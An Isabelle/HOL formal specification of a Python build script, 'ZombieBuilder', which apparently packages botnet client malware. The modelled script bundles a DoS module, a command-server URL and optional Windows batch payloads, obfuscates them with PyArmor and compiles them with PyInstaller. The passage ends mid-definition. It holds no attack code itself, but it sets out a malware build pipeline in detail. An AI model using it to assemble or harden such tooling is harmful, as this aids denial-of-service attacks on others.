theory Spec2Isabelle
  imports Main "HOL-Library.Sublist" "HOL-Library.AList"
begin

section \<open>The builder object of build.py\<close>

text \<open>
  A path is the list of its components below the file-system root, so
  \<^verbatim>\<open>os.path.join(d, name)\<close> is \<open>d @ [name]\<close>, \<^verbatim>\<open>os.path.dirname\<close> is \<open>butlast\<close> and
  \<^verbatim>\<open>os.path.basename\<close> is \<open>last\<close>. File names joined to a directory are single
  components (the code joins fixed names, the build identifier, and
  \<^verbatim>\<open>zombie_<platform>_<timestamp><ext>\<close>; a platform or timestamp holding a path
  separator is outside the model). Paths given on the command line are taken as
  already absolute.
\<close>

type_synonym path = "string list"

text \<open>
  The attributes \<^verbatim>\<open>ZombieBuilder.__init__\<close> sets once and no method assigns again.
  An option that is \<^verbatim>\<open>None\<close> or the empty string (both falsy in the tests
  \<^verbatim>\<open>if self.icon_path\<close>, \<^verbatim>\<open>if self.payload_path\<close>) is \<open>None\<close>.
  \<^verbatim>\<open>build_id\<close> is \<^verbatim>\<open>"zombie_" + uuid4().hex[:8]\<close> and \<^verbatim>\<open>build_timestamp\<close> the
  formatted clock; both are inputs here. The two attributes that methods do assign,
  \<^verbatim>\<open>use_upx\<close> and \<^verbatim>\<open>payload_data\<close>, live in the state below.
\<close>

record builder =
  platform :: string
  server_url :: string
  obfuscation_level :: string
  icon_path :: "path option"
  payload_path :: "path option"
  payload_delay :: int
  payload_technique :: string
  debug :: bool
  output_dir :: path
  build_id :: string
  build_timestamp :: string
  base_dir :: path

definition SOURCE_FILE :: string where
  "SOURCE_FILE = ''zombie.py''"

definition DOS_MODULE_FILE :: string where
  "DOS_MODULE_FILE = ''dos_module.py''"

definition BUILD_DIR :: string where
  "BUILD_DIR = ''build''"

definition build_dir :: "builder \<Rightarrow> path" where
  "build_dir b = base_dir b @ [BUILD_DIR]"

definition source_file_path :: "builder \<Rightarrow> path" where
  "source_file_path b = base_dir b @ [SOURCE_FILE]"

definition dos_module_path :: "builder \<Rightarrow> path" where
  "dos_module_path b = base_dir b @ [DOS_MODULE_FILE]"

definition prep_dir :: "builder \<Rightarrow> path" where
  "prep_dir b = build_dir b @ [''prep'']"

definition obfuscate_dir :: "builder \<Rightarrow> path" where
  "obfuscate_dir b = build_dir b @ [''obfuscate'']"

definition compile_dir :: "builder \<Rightarrow> path" where
  "compile_dir b = build_dir b @ [''compile'']"

text \<open>\<^verbatim>\<open>_get_file_extension\<close> (lines 143-150).\<close>

definition get_file_extension :: "builder \<Rightarrow> string" where
  "get_file_extension b =
     (if platform b = ''windows'' then ''.exe''
      else if platform b = ''macos'' then ''.app''
      else [])"

definition file_extension :: "builder \<Rightarrow> string" where
  "file_extension b = get_file_extension b"

definition modified_source :: "builder \<Rightarrow> path" where
  "modified_source b = prep_dir b @ [build_id b @ ''.py'']"

definition payload_module :: "builder \<Rightarrow> path" where
  "payload_module b = prep_dir b @ [''payload_module.py'']"

definition obfuscated_file :: "builder \<Rightarrow> path" where
  "obfuscated_file b = obfuscate_dir b @ [build_id b @ ''_obfuscated.py'']"

definition final_executable :: "builder \<Rightarrow> path" where
  "final_executable b =
     output_dir b @ [''zombie_'' @ platform b @ ''_'' @ build_timestamp b @ file_extension b]"

text \<open>The name \<^verbatim>\<open>_compile_executable\<close> looks for in the packager's \<^verbatim>\<open>dist\<close> (line 799).\<close>

definition executable_name :: "builder \<Rightarrow> string" where
  "executable_name b = ''zombie_'' @ platform b @ ''_'' @ build_timestamp b @ file_extension b"

text \<open>The file \<^verbatim>\<open>_generate_metadata\<close> writes (line 997).\<close>

definition metadata_file :: "builder \<Rightarrow> path" where
  "metadata_file b = output_dir b @ [build_id b @ ''_metadata.json'']"

text \<open>
  The interval pair \<^verbatim>\<open>_modify_source_code\<close> chooses (lines 435-443): check-in interval
  first, poll interval second.
\<close>

definition timing_intervals :: "string \<Rightarrow> int \<times> int" where
  "timing_intervals level =
     (if level = ''basic'' then (300, 30)
      else if level = ''advanced'' then (1800, 120)
      else (600, 60))"

section \<open>State, exceptions and the file system\<close>

text \<open>
  What a run of the builder can change: the two attributes its methods assign, the file
  system (regular files with their bytes, and directories), the working directory, and
  the log. The log keeps the records at level INFO and above, in order; of a message
  with an interpolated exception text or directory listing it keeps the fixed part.
  DEBUG records are left out, but an expression evaluated to build one
  (\<^verbatim>\<open>os.listdir\<close>) is still run, since it can raise. A Python string is
  modelled by the bytes of its UTF-8 encoding; a byte sequence that is not valid UTF-8
  stands for a string that cannot be encoded (one holding surrogate escapes). The host
  is a POSIX system whose locale encoding is UTF-8.
\<close>

datatype level = INFO | WARNING | ERROR

record state =
  use_upx :: bool
  payload_data :: "string option"
  files :: "(path \<times> string) list"
  dirs :: "path list"
  cwd :: path
  log :: "(level \<times> string) list"

datatype exn =
  CalledProcessError | FileNotFoundError | OSError | ReError | ValueError | KeyError | NameError

text \<open>
  A method body is a function from the state to a result and the state it leaves;
  \<open>Inl x\<close> is the exception \<open>x\<close> propagating, with the effects made so far kept.
\<close>

type_synonym 'a io = "state \<Rightarrow> (exn + 'a) \<times> state"

definition ret :: "'a \<Rightarrow> 'a io" where
  "ret a = (\<lambda>s. (Inr a, s))"

definition raise_exc :: "exn \<Rightarrow> 'a io" where
  "raise_exc x = (\<lambda>s. (Inl x, s))"

definition bind :: "'a io \<Rightarrow> ('a \<Rightarrow> 'b io) \<Rightarrow> 'b io" where
  "bind m f = (\<lambda>s. case m s of (Inl x, s') \<Rightarrow> (Inl x, s') | (Inr a, s') \<Rightarrow> f a s')"

definition seq :: "unit io \<Rightarrow> 'a io \<Rightarrow> 'a io" where
  "seq m n = bind m (\<lambda>_. n)"

text \<open>\<^verbatim>\<open>try: m  except Exception as x: h x\<close> (also the bare \<^verbatim>\<open>except:\<close>).\<close>

definition try_except :: "'a io \<Rightarrow> (exn \<Rightarrow> 'a io) \<Rightarrow> 'a io" where
  "try_except m h = (\<lambda>s. case m s of (Inl x, s') \<Rightarrow> h x s' | (Inr a, s') \<Rightarrow> (Inr a, s'))"

text \<open>\<^verbatim>\<open>try: m  finally: f\<close>: \<open>f\<close> runs on every exit; if it raises, that exception wins.\<close>

definition try_finally :: "'a io \<Rightarrow> unit io \<Rightarrow> 'a io" where
  "try_finally m f =
     (\<lambda>s. case m s of (r, s') \<Rightarrow>
        (case f s' of (Inl x, s'') \<Rightarrow> (Inl x, s'') | (Inr _, s'') \<Rightarrow> (r, s'')))"

definition get_state :: "state io" where
  "get_state = (\<lambda>s. (Inr s, s))"

definition logger :: "level \<Rightarrow> string \<Rightarrow> unit io" where
  "logger lv msg = (\<lambda>s. (Inr (), s\<lparr>log := log s @ [(lv, msg)]\<rparr>))"

text \<open>The text \<^verbatim>\<open>traceback.format_exc()\<close> returns is not modelled beyond its first line.\<close>

definition traceback :: string where
  "traceback = ''Traceback (most recent call last):''"

definition show_path :: "path \<Rightarrow> string" where
  "show_path p = concat (map (\<lambda>c. CHR ''/'' # c) p)"

definition is_file :: "state \<Rightarrow> path \<Rightarrow> bool" where
  "is_file s p = (map_of (files s) p \<noteq> None)"

definition is_dir :: "state \<Rightarrow> path \<Rightarrow> bool" where
  "is_dir s p = (p \<in> set (dirs s))"

text \<open>\<^verbatim>\<open>os.path.exists\<close>.\<close>

definition path_exists :: "state \<Rightarrow> path \<Rightarrow> bool" where
  "path_exists s p = (is_file s p \<or> is_dir s p)"

text \<open>
  \<^verbatim>\<open>os.makedirs(p, exist_ok=True)\<close>: creates \<open>p\<close> and its missing ancestors; raises when
  \<open>p\<close> or an ancestor is a regular file.
\<close>

definition makedirs :: "path \<Rightarrow> unit io" where
  "makedirs p =
     (\<lambda>s. if list_ex (is_file s) (prefixes p) then (Inl OSError, s)
          else (Inr (), s\<lparr>dirs := dirs s @ filter (\<lambda>q. \<not> is_dir s q) (prefixes p)\<rparr>))"

text \<open>\<^verbatim>\<open>open(p, 'r').read()\<close> and \<^verbatim>\<open>open(p, 'rb').read()\<close>.\<close>

definition read_file :: "path \<Rightarrow> string io" where
  "read_file p =
     (\<lambda>s. case map_of (files s) p of
            Some c \<Rightarrow> (Inr c, s)
          | None \<Rightarrow> (Inl (if is_dir s p then OSError else FileNotFoundError), s))"

text \<open>
  \<^verbatim>\<open>open(p, 'w').write(c)\<close>: the directory of \<open>p\<close> must exist and \<open>p\<close> must not be a
  directory; the file is created or replaced.
\<close>

definition write_file :: "path \<Rightarrow> string \<Rightarrow> unit io" where
  "write_file p c =
     (\<lambda>s. if is_dir s p then (Inl OSError, s)
          else if p = [] \<or> \<not> is_dir s (butlast p) then (Inl FileNotFoundError, s)
          else (Inr (), s\<lparr>files := AList.update p c (files s)\<rparr>))"

text \<open>
  \<^verbatim>\<open>shutil.copy2(src, dst)\<close>: a destination that is a directory stands for the file of
  the source's name in it; copying a file onto itself raises (SameFileError).
\<close>

definition copy2 :: "path \<Rightarrow> path \<Rightarrow> unit io" where
  "copy2 src dst =
     bind (read_file src) (\<lambda>c.
     bind get_state (\<lambda>s.
       let dst' = (if is_dir s dst then dst @ [last src] else dst)
       in if dst' = src then raise_exc OSError else write_file dst' c))"

text \<open>
  \<^verbatim>\<open>shutil.rmtree(p, ignore_errors=True)\<close>: removes the directory \<open>p\<close> with everything
  below it; on anything that is not a directory the error is ignored and nothing
  changes. Removal itself does not fail in the model.
\<close>

definition rmtree_ignore_errors :: "path \<Rightarrow> unit io" where
  "rmtree_ignore_errors p =
     (\<lambda>s. if is_dir s p
          then (Inr (), s\<lparr>files := filter (\<lambda>(q, c). \<not> prefix p q) (files s),
                           dirs := filter (\<lambda>q. \<not> prefix p q) (dirs s)\<rparr>)
          else (Inr (), s))"

text \<open>\<^verbatim>\<open>os.remove\<close>.\<close>

definition remove_file :: "path \<Rightarrow> unit io" where
  "remove_file p =
     (\<lambda>s. if is_file s p then (Inr (), s\<lparr>files := AList.delete p (files s)\<rparr>)
          else (Inl OSError, s))"

definition children :: "path list \<Rightarrow> path \<Rightarrow> string list" where
  "children ps d = map last (filter (\<lambda>p. p \<noteq> [] \<and> butlast p = d) ps)"

text \<open>\<^verbatim>\<open>os.listdir\<close>: the names of the files and directories directly in \<open>d\<close>.\<close>

definition listdir :: "path \<Rightarrow> string list io" where
  "listdir d =
     (\<lambda>s. if is_dir s d
          then (Inr (remdups (children (map fst (files s)) d @ children (dirs s) d)), s)
          else (Inl OSError, s))"

text \<open>
  \<^verbatim>\<open>os.listdir('.')\<close>: the listing of the working directory; when that directory has
  been removed, the empty list (what Linux answers).
\<close>

definition listdir_cwd :: "string list io" where
  "listdir_cwd =
     (\<lambda>s. if is_dir s (cwd s)
          then (Inr (remdups (children (map fst (files s)) (cwd s) @ children (dirs s) (cwd s))), s)
          else (Inr [], s))"

text \<open>\<^verbatim>\<open>os.getcwd\<close>: raises when the working directory has been removed.\<close>

definition getcwd :: "path io" where
  "getcwd = (\<lambda>s. if is_dir s (cwd s) then (Inr (cwd s), s) else (Inl FileNotFoundError, s))"

definition chdir :: "path \<Rightarrow> unit io" where
  "chdir p = (\<lambda>s. if is_dir s p then (Inr (), s\<lparr>cwd := p\<rparr>) else (Inl OSError, s))"

text \<open>
  Well-formed UTF-8 (the byte ranges of the Unicode standard, which Python's strict
  decoder accepts and no others): no overlong form, no surrogate, nothing above U+10FFFF.
\<close>

definition byte_in :: "nat \<Rightarrow> nat \<Rightarrow> char \<Rightarrow> bool" where
  "byte_in lo hi c = (lo \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> hi)"

text \<open>The range of the second byte, which depends on the first.\<close>

definition utf8_second :: "char \<Rightarrow> char \<Rightarrow> bool" where
  "utf8_second a b =
     (if a = CHR 0xE0 then byte_in 0xA0 0xBF b
      else if a = CHR 0xED then byte_in 0x80 0x9F b
      else if a = CHR 0xF0 then byte_in 0x90 0xBF b
      else if a = CHR 0xF4 then byte_in 0x80 0x8F b
      else byte_in 0x80 0xBF b)"

fun utf8_valid :: "string \<Rightarrow> bool" where
  "utf8_valid [] = True"
| "utf8_valid (a # cs) =
     (if byte_in 0x00 0x7F a then utf8_valid cs
      else if byte_in 0xC2 0xDF a
      then (case cs of
              b # ds \<Rightarrow> byte_in 0x80 0xBF b \<and> utf8_valid ds
            | _ \<Rightarrow> False)
      else if byte_in 0xE0 0xEF a
      then (case cs of
              b # c # es \<Rightarrow> utf8_second a b \<and> byte_in 0x80 0xBF c \<and> utf8_valid es
            | _ \<Rightarrow> False)
      else if byte_in 0xF0 0xF4 a
      then (case cs of
              b # c # d # fs \<Rightarrow>
                utf8_second a b \<and> byte_in 0x80 0xBF c \<and> byte_in 0x80 0xBF d \<and> utf8_valid fs
            | _ \<Rightarrow> False)
      else False)"

text \<open>
  Universal newlines on reading: \<^verbatim>\<open>\r\n\<close> and a lone \<^verbatim>\<open>\r\<close> become \<^verbatim>\<open>\n\<close>.
\<close>

fun universal_newlines :: "string \<Rightarrow> string" where
  "universal_newlines [] = []"
| "universal_newlines [c] = (if c = CHR 0x0D then [CHR 0x0A] else [c])"
| "universal_newlines (c # d # cs) =
     (if c = CHR 0x0D \<and> d = CHR 0x0A then CHR 0x0A # universal_newlines cs
      else if c = CHR 0x0D then CHR 0x0A # universal_newlines (d # cs)
      else c # universal_newlines (d # cs))"

text \<open>
  \<^verbatim>\<open>open(p, 'r').read()\<close>: the file's bytes decoded strictly (UnicodeDecodeError is a
  ValueError), with universal newlines.
\<close>

definition read_text :: "path \<Rightarrow> string io" where
  "read_text p =
     bind (read_file p) (\<lambda>bytes.
       if utf8_valid bytes then ret (universal_newlines bytes) else raise_exc ValueError)"

text \<open>
  \<^verbatim>\<open>open(p, 'w').write(text)\<close>: opening creates or empties the file; a string that
  cannot be encoded then raises (UnicodeEncodeError is a ValueError) and leaves the
  file empty. On the POSIX host \<^verbatim>\<open>\n\<close> is written as it is.
\<close>

definition write_text :: "path \<Rightarrow> string \<Rightarrow> unit io" where
  "write_text p text =
     (if utf8_valid text then write_file p text
      else seq (write_file p []) (raise_exc ValueError))"

text \<open>\<^verbatim>\<open>os.path.getsize\<close>: the byte length of a file; for a directory, what the host reports.\<close>

definition getsize :: "nat \<Rightarrow> path \<Rightarrow> nat io" where
  "getsize dsize p =
     (\<lambda>s. case map_of (files s) p of
            Some c \<Rightarrow> (Inr (length c), s)
          | None \<Rightarrow> if is_dir s p then (Inr dsize, s) else (Inl FileNotFoundError, s))"

definition set_use_upx :: "bool \<Rightarrow> unit io" where
  "set_use_upx v = (\<lambda>s. (Inr (), s\<lparr>use_upx := v\<rparr>))"

definition set_payload_data :: "string option \<Rightarrow> unit io" where
  "set_payload_data v = (\<lambda>s. (Inr (), s\<lparr>payload_data := v\<rparr>))"

text \<open>
  The test \<^verbatim>\<open>self.payload_data and self.platform == 'windows'\<close>: \<^verbatim>\<open>None\<close> and the
  empty string (the encoding of an empty payload file) are both falsy.
\<close>

definition has_payload :: "builder \<Rightarrow> state \<Rightarrow> bool" where
  "has_payload b s =
     (payload_data s \<noteq> None \<and> payload_data s \<noteq> Some [] \<and> platform b = ''windows'')"

definition quoted :: "string \<Rightarrow> string" where
  "quoted x = CHR 0x27 # x @ [CHR 0x27]"

section \<open>The world outside the builder\<close>

text \<open>
  What the run reads from outside and cannot compute: the interpreter's version, the
  outcome of each external tool, the random identifier, the clock, the host's
  description, and the library functions whose output is not at issue.
  \<^item> \<open>python_version_tuple\<close>: major, minor and patch level of
    \<^verbatim>\<open>platform.python_version_tuple()\<close>; the patch level is \<open>None\<close> when it is not a
    number (a pre-release such as \<^verbatim>\<open>0rc1\<close>), where \<^verbatim>\<open>int\<close> raises.
  \<^item> a \<open>probe\<close> is the outcome of \<^verbatim>\<open>subprocess.check_output([tool, '--version'])\<close>.
  \<^item> a \<open>tool_run\<close> is a run of the obfuscator or of the packager: the regular files it
    leaves in its \<^verbatim>\<open>dist\<close> directory (name and bytes; the tools write nowhere else), and
    whether the call then raises (the tool cannot be started, its output cannot be
    decoded) or gives a return code.
  \<^item> \<open>pyarmor_stdout\<close> and \<open>pyarmor_stderr\<close> are the captured output of the obfuscator,
    \<open>pyinstaller_lines\<close> the list \<^verbatim>\<open>output_lines\<close> that the loop at lines 785-787
    collects from the packager.
  \<^item> \<open>zombie_uuid_hex\<close> is \<^verbatim>\<open>uuid.uuid4().hex[:8]\<close> at line 428, \<open>now_isoformat\<close> is
    \<^verbatim>\<open>datetime.now().isoformat()\<close> at line 568, \<open>dir_size\<close> what \<^verbatim>\<open>os.path.getsize\<close>
    answers for a directory.
  \<^item> \<open>zlib_compress\<close> is \<^verbatim>\<open>zlib.compress\<close>; \<open>spec_text\<close> is the text of the packaging
    descriptor and \<open>json_dumps\<close> the text \<^verbatim>\<open>json.dump\<close> writes (ASCII only, since
    \<^verbatim>\<open>ensure_ascii\<close> is on).
\<close>

datatype probe = Probed | Probe_fails exn

datatype tool_outcome = Raises exn | Returns int

datatype tool_run = Tool_run "(string \<times> string) list" tool_outcome

datatype json = JString string | JInt int | JObject "(string \<times> json) list"

record env =
  python_version_tuple :: "nat \<times> nat \<times> nat option"
  host_python_version :: string
  host_system :: string
  host_release :: string
  host_machine :: string
  pyarmor_probe :: probe
  pyinstaller_probe :: probe
  upx_probe :: probe
  pyarmor_run :: tool_run
  pyarmor_stdout :: string
  pyarmor_stderr :: string
  pyinstaller_run :: tool_run
  pyinstaller_lines :: "string list"
  zombie_uuid_hex :: string
  now_isoformat :: string
  dir_size :: nat
  group_ref :: "string \<Rightarrow> nat option"
  zlib_compress :: "string \<Rightarrow> string"
  spec_text :: "builder \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> string list \<Rightarrow> string"
  json_dumps :: "json \<Rightarrow> string"

section \<open>base64\<close>

text \<open>
  \<^verbatim>\<open>base64.b64encode\<close> (RFC 4648, standard alphabet, \<^verbatim>\<open>=\<close> padding) on bytes, three
  bytes to four characters. \<open>b64decode\<close> is \<^verbatim>\<open>base64.b64decode\<close> on canonical input;
  it answers \<open>None\<close> on anything else, where Python would skip characters or raise.
\<close>

definition b64_char :: "nat \<Rightarrow> char" where
  "b64_char i =
     (if i < 26 then char_of (65 + i)
      else if i < 52 then char_of (71 + i)
      else if i < 62 then char_of (i - 4)
      else if i = 62 then CHR ''+''
      else CHR ''/'')"


fun b64encode :: "string \<Rightarrow> string" where
  "b64encode (a # b # c # rest) =
     (let n = (of_char a :: nat) * 65536 + of_char b * 256 + of_char c
      in b64_char (n div 262144) # b64_char (n div 4096 mod 64) #
         b64_char (n div 64 mod 64) # b64_char (n mod 64) # b64encode rest)"
| "b64encode [a, b] =
     (let n = (of_char a :: nat) * 65536 + of_char b * 256
      in [b64_char (n div 262144), b64_char (n div 4096 mod 64),
          b64_char (n div 64 mod 64), CHR ''=''])"
| "b64encode [a] =
     (let n = (of_char a :: nat) * 65536
      in [b64_char (n div 262144), b64_char (n div 4096 mod 64), CHR ''='', CHR ''=''])"
| "b64encode [] = []"




section \<open>Dependency verification\<close>

text \<open>Python's comparison of the version tuple with \<^verbatim>\<open>(3, 6, 0)\<close> is lexicographic.\<close>

definition version_lt :: "nat \<times> nat \<times> nat \<Rightarrow> nat \<times> nat \<times> nat \<Rightarrow> bool" where
  "version_lt v w =
     (case (v, w) of
        ((a, b, c), (x, y, z)) \<Rightarrow> a < x \<or> (a = x \<and> (b < y \<or> (b = y \<and> c < z))))"

text \<open>The exceptions \<^verbatim>\<open>except (subprocess.CalledProcessError, FileNotFoundError)\<close> catches.\<close>

definition tool_missing :: "exn \<Rightarrow> bool" where
  "tool_missing x = (x = CalledProcessError \<or> x = FileNotFoundError)"

text \<open>
  \<^verbatim>\<open>_check_dependencies\<close> (lines 152-226), from its last block to its first; each block
  ends the method with \<^verbatim>\<open>return False\<close> or goes on to the next one. First the payload
  block and the final \<^verbatim>\<open>return True\<close> (lines 202-221).
\<close>

definition check_payload :: "builder \<Rightarrow> bool io" where
  "check_payload b =
     (case payload_path b of
        None \<Rightarrow> seq (logger INFO ''All dependencies satisfied'') (ret True)
      | Some p \<Rightarrow>
          bind get_state (\<lambda>s.
            if \<not> path_exists s p
            then seq (logger ERROR (''Payload batch file '' @ quoted (show_path p) @ '' not found''))
                   (ret False)
            else if platform b \<noteq> ''windows''
            then seq (logger ERROR
                   (''Payload batch files can only be used with Windows platform, not '' @ platform b))
                   (ret False)
            else
              bind (try_except
                     (bind (read_file p) (\<lambda>payload_content.
                        seq (set_payload_data (Some (b64encode payload_content))) (ret True)))
                     (\<lambda>x. seq (logger ERROR ''Failed to read payload file: '') (ret False)))
                (\<lambda>loaded.
                   if loaded then seq (logger INFO ''All dependencies satisfied'') (ret True)
                   else ret False)))"

text \<open>The input files and the icon (lines 190-200).\<close>

definition check_inputs :: "builder \<Rightarrow> bool io" where
  "check_inputs b =
     bind get_state (\<lambda>s.
       if \<not> path_exists s (source_file_path b)
       then seq (logger ERROR (''Source file '' @ quoted (show_path (source_file_path b)) @ '' not found''))
              (ret False)
       else if \<not> path_exists s (dos_module_path b)
       then seq (logger ERROR
              (''DoS module file '' @ quoted (show_path (dos_module_path b)) @ '' not found''))
              (ret False)
       else (case icon_path b of
               None \<Rightarrow> check_payload b
             | Some i \<Rightarrow>
                 if \<not> path_exists s i
                 then seq (logger ERROR (''Icon file '' @ quoted (show_path i) @ '' not found''))
                        (ret False)
                 else check_payload b))"

text \<open>UPX, when requested (lines 180-188): a missing tool only clears the flag.\<close>

definition check_upx :: "env \<Rightarrow> builder \<Rightarrow> bool io" where
  "check_upx e b =
     bind get_state (\<lambda>s.
       if use_upx s
       then (case upx_probe e of
               Probed \<Rightarrow> check_inputs b
             | Probe_fails x \<Rightarrow>
                 if tool_missing x
                 then seq (logger WARNING ''UPX not found, continuing without compression'')
                        (seq (set_use_upx False) (check_inputs b))
                 else raise_exc x)
       else check_inputs b)"

text \<open>The packaging tool (lines 171-178).\<close>

definition check_pyinstaller :: "env \<Rightarrow> builder \<Rightarrow> bool io" where
  "check_pyinstaller e b =
     (case pyinstaller_probe e of
        Probed \<Rightarrow> check_upx e b
      | Probe_fails x \<Rightarrow>
          if tool_missing x
          then seq (logger ERROR ''PyInstaller not found. Install with: pip install pyinstaller'')
                 (ret False)
          else raise_exc x)"

text \<open>The obfuscation tool (lines 162-169).\<close>

definition check_pyarmor :: "env \<Rightarrow> builder \<Rightarrow> bool io" where
  "check_pyarmor e b =
     (case pyarmor_probe e of
        Probed \<Rightarrow> check_pyinstaller e b
      | Probe_fails x \<Rightarrow>
          if tool_missing x
          then seq (logger ERROR ''PyArmor not found. Install with: pip install pyarmor'')
                 (ret False)
          else raise_exc x)"

text \<open>The method: the version test (lines 157-160) and the outer handler (lines 223-226).\<close>

definition check_dependencies :: "env \<Rightarrow> builder \<Rightarrow> bool io" where
  "check_dependencies e b =
     seq (logger INFO ''Checking dependencies...'')
       (try_except
          (case python_version_tuple e of
             (major, minor, None) \<Rightarrow> raise_exc ValueError
           | (major, minor, Some micro) \<Rightarrow>
               if version_lt (major, minor, micro) (3, 6, 0)
               then seq (logger ERROR (''Python 3.6+ required, found '' @ host_python_version e))
                      (ret False)
               else check_pyarmor e b)
          (\<lambda>x. seq (logger ERROR ''Dependency check failed: '')
                 (seq (logger ERROR traceback) (ret False))))"


section \<open>Regular-expression substitution\<close>

text \<open>
  \<^verbatim>\<open>re.sub(pattern, repl, string)\<close> first compiles \<open>repl\<close> as a template when it holds
  a backslash, whether or not the pattern occurs, and raises \<^verbatim>\<open>re.error\<close> on a bad
  template. In a template \<^verbatim>\<open>\n \t \r \a \b \f \v \\\<close> stand for one character,
  \<^verbatim>\<open>\0\<close> with up to two octal digits and three octal digits for a character code, \<^verbatim>\<open>\1\<close> .. \<^verbatim>\<open>\99\<close> and
  \<^verbatim>\<open>\g<name>\<close> for a group of the match, a backslash before any other ASCII letter is
  an error since Python 3.7 (before, the two characters stood for themselves), and a
  backslash before anything else stands with that character for itself. How the text
  between \<^verbatim>\<open>\g<\<close> and \<^verbatim>\<open>>\<close> names a group is the environment's \<open>group_ref\<close>.
\<close>

datatype titem = Lit char | Group nat

definition is_digit :: "char \<Rightarrow> bool" where
  "is_digit c = (48 \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> 57)"

definition is_octdigit :: "char \<Rightarrow> bool" where
  "is_octdigit c = (48 \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> 55)"

definition digit_val :: "char \<Rightarrow> nat" where
  "digit_val c = of_char c - 48"

definition is_ascii_letter :: "char \<Rightarrow> bool" where
  "is_ascii_letter c =
     ((65 \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> 90) \<or>
      (97 \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> 122))"

text \<open>The table \<^verbatim>\<open>ESCAPES\<close> of the template parser.\<close>

definition simple_escape :: "char \<Rightarrow> char option" where
  "simple_escape c =
     (if c = CHR ''a'' then Some (CHR 0x07)
      else if c = CHR ''b'' then Some (CHR 0x08)
      else if c = CHR ''f'' then Some (CHR 0x0C)
      else if c = CHR ''n'' then Some (CHR 0x0A)
      else if c = CHR ''r'' then Some (CHR 0x0D)
      else if c = CHR ''t'' then Some (CHR 0x09)
      else if c = CHR ''v'' then Some (CHR 0x0B)
      else if c = CHR 0x5C then Some (CHR 0x5C)
      else None)"

text \<open>The UTF-8 bytes of the character with code \<open>v\<close>, for \<open>v\<close> below 256.\<close>

definition utf8_chr :: "nat \<Rightarrow> string" where
  "utf8_chr v = (if v < 128 then [char_of v] else [char_of (192 + v div 64), char_of (128 + v mod 64)])"

definition group_item :: "nat \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> (titem list \<times> nat) option" where
  "group_item ngroups i used = (if i \<le> ngroups then Some ([Group i], used) else None)"

text \<open>
  One escape: \<open>cs\<close> is the text after the backslash; the answer is the items it stands
  for and how many characters of \<open>cs\<close> it takes, or \<open>None\<close> for an error.
\<close>

definition escape :: "bool \<Rightarrow> (string \<Rightarrow> nat option) \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> (titem list \<times> nat) option" where
  "escape strict gref ngroups cs =
     (case cs of
        [] \<Rightarrow> None
      | c # ds \<Rightarrow>
          if c = CHR ''g'' then
            (case ds of
               [] \<Rightarrow> None
             | l # ns \<Rightarrow>
                 let name = takeWhile (\<lambda>x. x \<noteq> CHR ''>'') ns
                 in if l \<noteq> CHR ''<'' \<or> name = [] \<or> length name = length ns then None
                    else (case gref name of
                            None \<Rightarrow> None
                          | Some i \<Rightarrow> group_item ngroups i (length name + 3)))
          else if c = CHR ''0'' then
            (case ds of
               d1 # d2 # _ \<Rightarrow>
                 if is_octdigit d1 \<and> is_octdigit d2
                 then Some ([Lit (char_of (digit_val d1 * 8 + digit_val d2))], 3)
                 else if is_octdigit d1 then Some ([Lit (char_of (digit_val d1))], 2)
                 else Some ([Lit (CHR 0x00)], 1)
             | [d1] \<Rightarrow>
                 if is_octdigit d1 then Some ([Lit (char_of (digit_val d1))], 2)
                 else Some ([Lit (CHR 0x00)], 1)
             | [] \<Rightarrow> Some ([Lit (CHR 0x00)], 1))
          else if is_digit c then
            (case ds of
               d1 # rest \<Rightarrow>
                 if is_digit d1 then
                   (case rest of
                      d2 # _ \<Rightarrow>
                        if is_octdigit c \<and> is_octdigit d1 \<and> is_octdigit d2
                        then (let v = (digit_val c * 8 + digit_val d1) * 8 + digit_val d2
                              in if 255 < v then None else Some (map Lit (utf8_chr v), 3))
                        else group_item ngroups (digit_val c * 10 + digit_val d1) 2
                    | [] \<Rightarrow> group_item ngroups (digit_val c * 10 + digit_val d1) 2)
                 else group_item ngroups (digit_val c) 1
             | [] \<Rightarrow> group_item ngroups (digit_val c) 1)
          else
            (case simple_escape c of
               Some x \<Rightarrow> Some ([Lit x], 1)
             | None \<Rightarrow>
                 if is_ascii_letter c \<and> strict then None
                 else Some ([Lit (CHR 0x5C), Lit c], 1)))"

text \<open>The template parser; \<open>k\<close> counts the characters an escape has already taken.\<close>

fun parse_template :: "bool \<Rightarrow> (string \<Rightarrow> nat option) \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> titem list option" where
  "parse_template strict gref ngroups k [] = Some []"
| "parse_template strict gref ngroups k (c # cs) =
     (if 0 < k then parse_template strict gref ngroups (k - 1) cs
      else if c \<noteq> CHR 0x5C
      then map_option ((#) (Lit c)) (parse_template strict gref ngroups 0 cs)
      else (case escape strict gref ngroups cs of
              None \<Rightarrow> None
            | Some (items, used) \<Rightarrow>
                map_option ((@) items) (parse_template strict gref ngroups used cs)))"

text \<open>Expansion for a match: \<open>groups ! i\<close> is the text of group \<open>i\<close>, group 0 the match.\<close>

fun expand :: "string list \<Rightarrow> titem list \<Rightarrow> string" where
  "expand groups [] = []"
| "expand groups (Lit c # is) = c # expand groups is"
| "expand groups (Group i # is) =
     (if i < length groups then groups ! i else []) @ expand groups is"

text \<open>
  Leftmost, non-overlapping replacement of a literal pattern (not empty);
  \<open>k\<close> counts the characters of a match still to be skipped.
\<close>

fun replace_literal :: "nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "replace_literal k pat rep [] = []"
| "replace_literal k pat rep (c # cs) =
     (if 0 < k then replace_literal (k - 1) pat rep cs
      else if prefix pat (c # cs) then rep @ replace_literal (length pat - 1) pat rep cs
      else c # replace_literal 0 pat rep cs)"

text \<open>
  \<^verbatim>\<open>re.sub\<close> for a pattern that matches exactly the text \<open>pat\<close> (every pattern of the
  customizer but the import one is an escaped literal with no group); \<open>strict\<close> says
  whether the interpreter is Python 3.7 or later.
\<close>

definition re_sub_literal :: "bool \<Rightarrow> (string \<Rightarrow> nat option) \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string io" where
  "re_sub_literal strict gref pat repl s =
